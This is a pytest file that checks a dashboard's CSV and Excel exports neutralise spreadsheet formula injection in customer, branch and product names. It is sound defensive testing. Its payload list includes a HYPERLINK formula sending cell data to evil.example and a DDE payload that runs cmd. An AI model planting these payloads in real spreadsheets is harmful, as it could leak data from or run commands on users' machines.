"""Spreadsheet formula injection (issue 15 item 2): customer, branch and product names that a
spreadsheet would run as formulas, loaded as real data with the loader into a small warehouse, are
exported by the dashboard (tables, pivots with the names in headers, records; CSV and Excel) with a
single quote in front, as OWASP advises, while numbers (negative ones included) stay numbers."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from data import users
from data.load import load
from tests.test_load import BASE

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "plus": "+SUM(1+1)",
    "dde": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\tSUM(1+1)",
}
# Where each payload is loaded: (file, key column, key, name column)
PLACES = [("dim_customer.csv", "customer_id", "C1", "name", "hyperlink"),
          ("dim_customer.csv", "customer_id", "C2", "name", "plus"),
          ("dim_customer.csv", "customer_id", "C3", "name", "at"),
          ("dim_customer.csv", "customer_id", "C4", "name", "dde"),  # holds no policy: in no export
          ("dim_branch.csv", "branch_id", "B01", "name_zh", "tab"), ("dim_branch.csv", "branch_id", "B01", "name_en", "hyperlink"),
          ("dim_branch.csv", "branch_id", "B02", "name_zh", "dde"), ("dim_branch.csv", "branch_id", "B02", "name_en", "at"),
          ("dim_product.csv", "product_code", "P1", "name_zh", "plus"), ("dim_product.csv", "product_code", "P1", "name_en", "dde")]
# A paid claim far above B02's premium: its contribution (and its customer's) is negative.
CLAIM = "claim_id,policy_id,report_date,decision_date,amount_claimed,amount_paid,decision\nK1,PL2,2021-06-01,2021-06-20,90000,90000,paid\n"
PASSWORD = "poisoned-names-42"
RISKY = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory) -> Path:
    source = tmp_path_factory.mktemp("poisoned-input")
    for f in BASE.glob("*.csv"):
        shutil.copy(f, source / f.name)
    for name in {p[0] for p in PLACES}:
        frame = pd.read_csv(source / name, dtype=str, keep_default_na=False)
        for file, key_column, key, column, payload in PLACES:
            if file == name:
                frame.loc[frame[key_column] == key, column] = PAYLOADS[payload]
        frame.to_csv(source / name, index=False)
    (source / "fact_claim.csv").write_text(CLAIM, encoding="utf-8")
    target = tmp_path_factory.mktemp("poisoned") / "w.duckdb"
    load([source], into=target)
    return target


def test_the_payloads_are_loaded_as_they_were_written(poisoned):
    con = duckdb.connect(str(poisoned), read_only=True)
    try:
        names = {r[0] for r in con.execute(
            "SELECT name FROM dim_customer UNION ALL SELECT name_zh FROM dim_branch UNION ALL "
            "SELECT name_en FROM dim_branch UNION ALL SELECT name_zh FROM dim_product").fetchall()}
    finally:
        con.close()
    assert set(PAYLOADS.values()) <= names


@pytest.fixture(scope="module")
def client(poisoned, tmp_path_factory):
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("POLICYCUBE_DATA", str(poisoned))
        mp.setenv("POLICYCUBE_ACCESS_DB", str(tmp_path_factory.mktemp("access") / "access.sqlite"))
        import app

        con = users.connect()  # a loaded warehouse has no demo accounts
        users.add_user(con, "exec", PASSWORD, "executive", {}, "test")
        con.close()
        client = app.server.test_client()
        response = client.post("/login", data={"username": "exec", "password": PASSWORD})
        assert response.status_code == 302
        yield client


EXPORTS = {
    "branch table": ("explore", "table", {"cube": "contribution", "rows": ["geography.branch"],
                                         "measures": ["contribution", "premium"], "totals": True}),
    "pivot, names in headers": ("pivot", "table", {"cube": "policies", "rows": ["geography.branch"],
                                                   "columns": ["product.product"], "measures": ["written_premium"]}),
    "customer records": ("contribution", "records", {"cube": "contribution", "rows": ["geography.branch"],
                                                     "measures": ["contribution"]}),
    "policy records": ("pivot", "records", {"cube": "policies", "rows": ["geography.branch"],
                                            "measures": ["written_premium", "claims_paid"]}),
}


def get(client, view: str, kind: str, spec: dict, lang: str, fmt: str) -> bytes:
    response = client.get(f"/export/{view}.{fmt}", query_string={"spec": json.dumps(spec), "lang": lang, "kind": kind})
    assert response.status_code == 200, response.data[:300]
    return response.data


def assert_quoted(quoted: set[str], case: str, lang: str) -> None:
    """Each payload the export shows is there, with its quote (a header: at its start)."""
    for name in _names_of(case, lang):
        assert any(cell == "'" + name or cell.startswith("'" + name + " / ") for cell in quoted), (name, quoted)


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("case", EXPORTS)
def test_csv_text_cells_that_look_like_formulas_get_a_quote_and_numbers_stay_numbers(client, case, lang):
    view, kind, spec = EXPORTS[case]
    text = get(client, view, kind, spec, lang, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if RISKY.match(c) and not NUMBER.fullmatch(c)], "a formula left as it was"
    assert_quoted({c for c in cells if c.startswith("'")}, case, lang)
    if "contribution" in spec["measures"]:
        negatives = [c for c in cells if c.startswith("-") and NUMBER.fullmatch(c)]
        assert negatives, "B02's negative contribution"
        # written as a number: Arrow quotes text only
        assert all(f',{n}\r\n' in text or f',{n},' in text for n in negatives)


def _names_of(case: str, lang: str) -> set[str]:
    """The payloads an export shows: branch names everywhere, customer names in customer records,
    product names in the pivot's headers and the policy records."""
    column = "name_zh" if lang == "zh" else "name_en"
    files = {"customer records": ("dim_branch.csv", "dim_customer.csv"), "branch table": ("dim_branch.csv",)}
    shown = files.get(case, ("dim_branch.csv", "dim_product.csv"))
    return {PAYLOADS[p] for f, _k, key, c, p in PLACES if f in shown and c in ("name", column) and key != "C4"}


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("case", EXPORTS)
def test_excel_text_cells_that_look_like_formulas_get_a_quote_and_numbers_stay_numbers(client, case, lang):
    view, kind, spec = EXPORTS[case]
    sheet = openpyxl.load_workbook(io.BytesIO(get(client, view, kind, spec, lang, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    text = [c.value for c in cells if c.data_type == "s"]
    assert not [v for v in text if RISKY.match(v)], "a formula left as it was"
    assert not [c for c in cells if c.data_type == "f"]
    assert_quoted({v for v in text if v.startswith("'")}, case, lang)
    if "contribution" in spec["measures"]:
        negatives = [c.value for c in cells if c.data_type == "n" and c.value < 0]
        assert negatives, "B02's negative contribution, as a number"


@pytest.mark.parametrize("dtype", [object, "string", "category"])
def test_every_kind_of_text_column_is_neutralised_and_numbers_in_it_stay_numbers(dtype):
    """Page exports build frames from grid rows: a text column may be pandas strings, categories or
    Python objects with blanks; only the text that starts a formula changes."""
    from cubes import export

    values = [PAYLOADS["hyperlink"], "-12.5", "华北", None, PAYLOADS["tab"]]
    frame = pd.DataFrame({"=Name": pd.Series(values, dtype=dtype), "Amount (CNY)": range(-1, len(values) - 1)})
    frame.attrs["formats"] = {"Amount (CNY)": "money"}
    text = b"".join(export.csv_chunks([frame], "Filters: none")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'=Name", "Amount (CNY)"]
    cells = [r[0] for r in rows[2:]]
    assert cells[:5] == ["'" + PAYLOADS["hyperlink"], "-12.5", "华北", "", "'" + PAYLOADS["tab"]]
    assert [r[1] for r in rows[2:]][0] == "-1" and '\r\n"-12.5",0\r\n' in text  # Arrow quotes text only
    sheet = openpyxl.load_workbook(export.xlsx_file([frame], "Filters: none", "t")).active
    assert sheet["A2"].value == "'=Name" and sheet["A3"].value == "'" + PAYLOADS["hyperlink"]
    assert sheet["A7"].value == "'" + PAYLOADS["tab"] and sheet["B3"].value == -1 and sheet["B3"].data_type == "n"
